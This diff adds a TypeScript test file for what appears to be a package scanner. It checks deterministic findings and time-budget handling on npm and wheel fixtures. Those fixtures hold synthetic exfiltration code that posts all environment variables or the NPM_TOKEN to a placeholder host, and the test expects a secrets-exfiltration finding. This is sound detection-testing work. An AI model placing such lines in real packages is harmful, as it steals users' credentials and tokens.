@@ -1,0 +1,122 @@
+import { execFileSync } from 'node:child_process'
+import { join } from 'node:path'
+import t from 'tap'
+import { inspect } from '../../src/checks/inspect.ts'
+import type { CatalogueArtifact } from '../../src/model/artifact.ts'
+import { sha256 } from '../../src/model/digest.ts'
+import type { ContentFacts } from '../../src/model/fact.ts'
+import { readingOf } from './python-reading.ts'
+
+type Files = Readonly<Record<string, string>>
+
+const KINDS = { npm: 'npm-tarball', pypi: 'wheel' } as const
+
+function artifactOf(ecosystem: keyof typeof KINDS): CatalogueArtifact {
+  const kind = KINDS[ecosystem]
+  return {
+    ecosystem,
+    name: 'sample',
+    version: '1.0.0',
+    filename: kind === 'wheel' ? 'sample-1.0.0-py3-none-any.whl' : 'sample-1.0.0.tgz',
+    kind,
+    url: 'https://registry.example/sample',
+    claims: [],
+    publishedAt: null,
+    sizeBytes: null,
+    withdrawn: false,
+    publisher: null,
+    manifest: null,
+  }
+}
+
+function inspected(ecosystem: keyof typeof KINDS, files: Files): Promise<ContentFacts> {
+  const artifact = artifactOf(ecosystem)
+  return inspect(readingOf(artifact.kind, files), { artifact, digest: sha256('x'), integrity: 'verified' })
+}
+
+const comparable = (facts: ContentFacts): unknown => JSON.parse(JSON.stringify({ ...facts, tookMs: 0 }))
+
+/** The facts as a process measures them that has measured nothing before. */
+function inColdProcess(ecosystem: keyof typeof KINDS, files: Files): unknown {
+  const script = join(import.meta.dirname, 'inspect-once.ts')
+  const input = JSON.stringify({ artifact: artifactOf(ecosystem), files })
+  const output = execFileSync(process.execPath, [script], { input, encoding: 'utf8', maxBuffer: 64_000_000 })
+  return { ...JSON.parse(output), tookMs: 0 }
+}
+
+/** Statements that take many evaluation steps, by `name`. */
+function costly(name: string, statements: number): string {
+  const lines = Array.from(
+    { length: statements },
+    (_, index) =>
+      `exports.f${index} = (x) => fetch('https://c.invalid/' + exports.f${(index * 7) % statements}(x + '${name}'))`,
+  )
+  return lines.join('\n')
+}
+
+function costlyPackage(count: number): Files {
+  const files: Record<string, string> = {
+    'package.json': JSON.stringify({ name: 'sample', main: 'index.js' }),
+    'index.js': `require('./zz-late')\nfetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(process.env) })`,
+    'zz-late.js': `fetch('https://c.invalid/' + process.env.NPM_TOKEN)`,
+    'zz-small.js': `exports.f = () => fetch('https://c.invalid/', { body: JSON.stringify(process.env) })`,
+  }
+  for (let index = 0; index < count; index += 1) files[`lib/a${index}.js`] = costly(`a${index}`, 200)
+  return files
+}
+
+function costlyWheel(count: number): Files {
+  const files: Record<string, string> = {
+    'sample-1.0.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n',
+    'sample/__init__.py': 'from . import zz\n',
+    'sample/zz.py': 'import os, requests\nrequests.post("https://c.invalid/", json=dict(os.environ))\n',
+  }
+  for (let index = 0; index < count; index += 1) {
+    const body = `def f():\n    requests.post("https://c.invalid/", json=dict(os.environ), a="${'x'.repeat(40)}")\n`
+    files[`sample/a${index}.py`] = `import os, requests\n${body.repeat(150)}`
+  }
+  return files
+}
+
+const PACKAGES = [
+  { name: 'an npm package over the budget', ecosystem: 'npm', files: costlyPackage(40) },
+  { name: 'an npm package within the budget', ecosystem: 'npm', files: costlyPackage(3) },
+  { name: 'a wheel over the budget', ecosystem: 'pypi', files: costlyWheel(45) },
+] as const
+
+t.test('the same bytes give the same facts, whatever the process did before', async (t) => {
+  for (const { name, ecosystem, files } of PACKAGES) {
+    const first = comparable(await inspected(ecosystem, files))
+    const warm = comparable(await inspected(ecosystem, files))
+    t.same(warm, first, name)
+    t.same(inColdProcess(ecosystem, files), warm, `${name}, in another process`)
+    const turned = Object.fromEntries(Object.entries(files).toReversed())
+    const { files: _, ...other } = await inspected(ecosystem, turned)
+    const { files: __, ...ordered } = await inspected(ecosystem, files)
+    t.same(
+      comparable({ ...other, files: [] }),
+      comparable({ ...ordered, files: [] }),
+      `${name}, packed in another order`,
+    )
+  }
+})
+
+t.test(
+  'costly files end within the budget, are named, and push out neither the surface nor what is smaller',
+  async (t) => {
+    for (const { ecosystem, files, small } of [
+      { ecosystem: 'npm', files: costlyPackage(70), small: ['index.js', 'zz-late.js', 'zz-small.js'] },
+      { ecosystem: 'pypi', files: costlyWheel(60), small: ['sample/__init__.py', 'sample/zz.py'] },
+    ] as const) {
+      const { notExamined, findings } = await inspected(ecosystem, files)
+      const left = notExamined.filter(({ reason }) => reason.includes('budget'))
+      t.ok(left.length > 5, `${ecosystem}: ${left.length} files are named`)
+      t.ok(left.length < 59, `${ecosystem}: and others were examined`)
+      t.notOk(
+        left.some(({ path }) => (small as readonly string[]).includes(path)),
+        'what is likeliest was examined',
+      )
+      t.ok(findings.some(({ check }) => check === 'secrets-exfiltration'))
+    }
+  },
+)
